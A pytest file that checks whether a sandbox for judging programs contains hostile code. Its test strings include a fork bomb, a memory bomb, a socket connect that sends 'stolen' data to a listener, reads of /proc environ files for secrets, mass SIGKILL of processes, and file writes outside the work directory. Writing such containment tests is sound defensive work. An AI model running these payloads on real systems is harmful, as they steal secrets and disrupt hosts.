"""Security tests of the sandbox: each runs a concrete attack program and checks it is contained.

Contained = reward 0 for the case, the test process and a sentinel host process unaffected, no process
left under any sandbox uid or below the test process, no file left on the host.
"""

from __future__ import annotations

import os
import socket
import subprocess
import tempfile
import threading
import uuid
from pathlib import Path

import pytest

from sparrow_megatron.reward import sandbox
from sparrow_megatron.reward.code_reward import CodeRewardConfig, judge_program, parse_tests
from sparrow_megatron.reward.sandbox import (
    SandboxConfig,
    SandboxPool,
    isolation_available,
    processes_of_uid,
    run_program,
)

CONFIG = SandboxConfig(timeout_s=3.0)
UNREACHABLE = "the attack did not reach its goal"

needs_isolation = pytest.mark.skipif(
    not isolation_available(), reason="this machine cannot isolate programs (sparrow reward code --check)"
)
pytestmark = [pytest.mark.timeout(120), needs_isolation]
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="a uid reserved per run needs root")


def _sandbox_processes() -> list[int]:
    pids = []
    for uid in range(CONFIG.uid_base, CONFIG.uid_base + CONFIG.uid_slots):
        pids += processes_of_uid(uid)
    return pids


def _descendants(pid: int) -> list[int]:
    import psutil

    return [p.pid for p in psutil.Process(pid).children(recursive=True)]


def _tmp_listing() -> set[str]:
    return set(os.listdir(tempfile.gettempdir()))


@pytest.fixture
def contained():
    """Host state around an attack: a sentinel root process that must survive, and leak checks."""
    before_children = set(_descendants(os.getpid()))  # an earlier test's worker pool is not this test's
    sentinel = subprocess.Popen(["sleep", "600"])
    before_tmp = _tmp_listing()
    yield sentinel
    try:
        assert sentinel.poll() is None, "sentinel host process was killed"
        assert _sandbox_processes() == [], "processes left under sandbox uids"
        stray = set(_descendants(os.getpid())) - before_children
        assert stray == {sentinel.pid}, "stray child processes of the test"
        leaked = {n for n in _tmp_listing() - before_tmp if n.startswith("sparrow")}
        assert leaked - {"sparrow-sandbox-uids"} == set(), f"files left in /tmp: {leaked}"
    finally:
        sentinel.kill()
        sentinel.wait()


def judge_attack(source: str, config: SandboxConfig = CONFIG):
    tests = parse_tests({"inputs": [""], "outputs": [UNREACHABLE]})
    score = judge_program(source, tests, CodeRewardConfig(sandbox=config))
    assert score.reward == 0.0
    assert score.passed == 0
    return score.cases[0]


def test_benign_program_runs_with_stdin_and_minimal_env():
    res = run_program(
        "import os, sys\nprint(sys.stdin.read().upper())\nprint(sorted(os.environ))\nprint(os.listdir('.'))",
        "hello",
        config=CONFIG,
    )
    assert res.status == "ok"
    lines = res.stdout.splitlines()
    assert lines[0] == "HELLO"
    assert lines[1] == str(sorted(["PATH", "LANG", "HOME", "PWD"]))  # PWD=/tmp: set by bwrap --chdir
    assert lines[2] == "['prog.py']"


@needs_root
def test_program_runs_as_unprivileged_uid():
    res = run_program("import os; print(os.getuid(), os.getgid(), os.getgroups())", config=CONFIG)
    uid, gid, groups = res.stdout.split(maxsplit=2)
    assert CONFIG.uid_base <= int(uid) < CONFIG.uid_base + CONFIG.uid_slots
    assert int(gid) == int(uid)
    assert groups.strip() == "[]"


def test_fork_bomb_is_contained(contained):
    bomb = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
    case = judge_attack(bomb)
    assert case.status in ("timeout", "killed")
    # The host can still create processes.
    assert subprocess.run(["true"]).returncode == 0


def test_memory_bomb_is_contained(contained):
    import psutil

    rss_before = psutil.Process().memory_info().rss
    bomb = "blocks = []\nwhile True:\n    blocks.append(bytearray(64 * 1024 * 1024))\n"
    case = judge_attack(bomb, SandboxConfig(timeout_s=5.0, memory_mb=256))
    assert case.status in ("error", "killed")
    assert "MemoryError" in case.detail or case.status == "killed"
    assert psutil.Process().memory_info().rss < rss_before + 64 * 1024 * 1024


def test_infinite_loop_times_out(contained):
    case = judge_attack("while True:\n    pass\n", SandboxConfig(timeout_s=2.0))
    assert case.status == "timeout"


def test_sleep_past_timeout(contained):
    case = judge_attack("import time\ntime.sleep(600)\nprint('the attack did not reach its goal')\n")
    assert case.status == "timeout"


def test_huge_output_is_capped(contained):
    res = run_program(
        "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n",
        config=SandboxConfig(timeout_s=5.0, max_output_bytes=100_000),
    )
    assert res.status == "killed"
    assert res.reason == "output limit exceeded"
    assert len(res.stdout) <= 100_000
    judge_attack("print('y' * 10**8)\n", SandboxConfig(timeout_s=5.0, max_output_bytes=100_000))


def test_connect_to_host_loopback_is_blocked(contained):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    try:
        attack = (
            "import socket\n"
            f"s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
            "s.sendall(b'stolen')\n"
            f"print({UNREACHABLE!r})\n"
        )
        case = judge_attack(attack)
        assert case.status == "error"
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()


def test_connect_to_outside_address_is_blocked(contained):
    # 192.0.2.1 is TEST-NET-1 (RFC 5737): never a real target; a short timeout either way.
    attack = (
        f"import socket\ns = socket.create_connection(('192.0.2.1', 80), timeout=1)\nprint({UNREACHABLE!r})\n"
    )
    case = judge_attack(attack)
    assert case.status == "error"
    assert "Network is unreachable" in case.detail


def test_fallback_mode_refuses_sockets(contained):
    attack = (
        "import socket\n"
        "s = socket.socket()\n"
        "s.settimeout(1)\n"
        "s.connect(('192.0.2.1', 80))\n"
        f"print({UNREACHABLE!r})\n"
    )
    case = judge_attack(attack, SandboxConfig(timeout_s=3.0, isolation="unsafe"))
    assert case.status == "error"
    assert "socket.__new__ is not allowed" in case.detail


def test_parent_environment_is_not_visible(contained, monkeypatch):
    secret = "sparrow-secret-" + uuid.uuid4().hex
    monkeypatch.setenv("SPARROW_TEST_SECRET", secret)
    attack = (
        "import os\n"
        "found = [v for v in os.environ.values()]\n"
        "for pid in ['self', '1', str(os.getppid())] + os.listdir('/proc'):\n"
        "    try:\n"
        "        found.append(open(f'/proc/{pid}/environ', 'rb').read().decode(errors='replace'))\n"
        "    except OSError:\n"
        "        pass\n"
        "print('\\n'.join(found))\n"
    )
    res = run_program(attack, config=CONFIG)
    assert secret not in res.stdout + res.stderr
    judge_attack(attack)


def test_writes_outside_work_dir_do_not_reach_host(contained, tmp_path):
    name = "sparrow-escape-" + uuid.uuid4().hex
    targets = [
        Path(tempfile.gettempdir()) / name,
        tmp_path / name,
        Path("/var/tmp") / name,
        Path("/dev/shm") / name,
        Path("/run/lock") / name,
        Path("/") / name,
        Path.cwd() / name,
        Path(sandbox.__file__).parent / name,
    ]
    attack = "\n".join(
        [
            "for p in " + repr([str(t) for t in targets]) + ":",
            "    try:",
            "        open(p, 'w').write('pwned')",
            "    except OSError as e:",
            "        print('blocked', p, e)",
        ]
    )
    judge_attack(attack)
    for target in targets:
        assert not target.exists(), f"sandboxed program wrote {target}"


def test_killing_the_parent_is_contained(contained):
    attack = (
        "import os, signal\n"
        "for pid in [os.getppid(), 1] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
        "    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n"
        "    except OSError:\n"
        "        pass\n"
        "os.kill(-1, signal.SIGKILL)\n"
        f"print({UNREACHABLE!r})\n"
    )
    judge_attack(attack)
    assert os.getppid() != 1  # the test process still has its parent
    assert contained.poll() is None


def test_children_left_behind_are_killed(contained):
    marker = Path(tempfile.gettempdir()) / ("sparrow-orphan-" + uuid.uuid4().hex)
    attack = (
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        time.sleep(2)\n"
        f"        open({str(marker)!r}, 'w').write('alive')\n"
        "        time.sleep(600)\n"
        "    os._exit(0)\n"
        "print('parent exits at once')\n"
    )
    res = run_program(attack, config=CONFIG)
    assert res.status == "ok"
    assert _sandbox_processes() == []
    judge_attack(attack)
    assert not marker.exists()


def test_pool_bounds_parallelism_and_keeps_order(monkeypatch):
    active, peak, lock = [0], [0], threading.Lock()
    real = sandbox.run_program

    def counting(*args, **kwargs):
        with lock:
            active[0] += 1
            peak[0] = max(peak[0], active[0])
        try:
            return real(*args, **kwargs)
        finally:
            with lock:
                active[0] -= 1

    monkeypatch.setattr(sandbox, "run_program", counting)
    with SandboxPool(CONFIG, workers=2) as pool:
        results = pool.map([{"source": f"print({i} * {i})"} for i in range(6)])
    assert [r.stdout.strip() for r in results] == [str(i * i) for i in range(6)]
    assert peak[0] <= 2
    assert _sandbox_processes() == []


def test_launcher_survives_program_signals_itself():
    res = run_program("import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)\n", config=CONFIG)
    assert res.status == "killed"
    assert "SIGSEGV" in res.reason
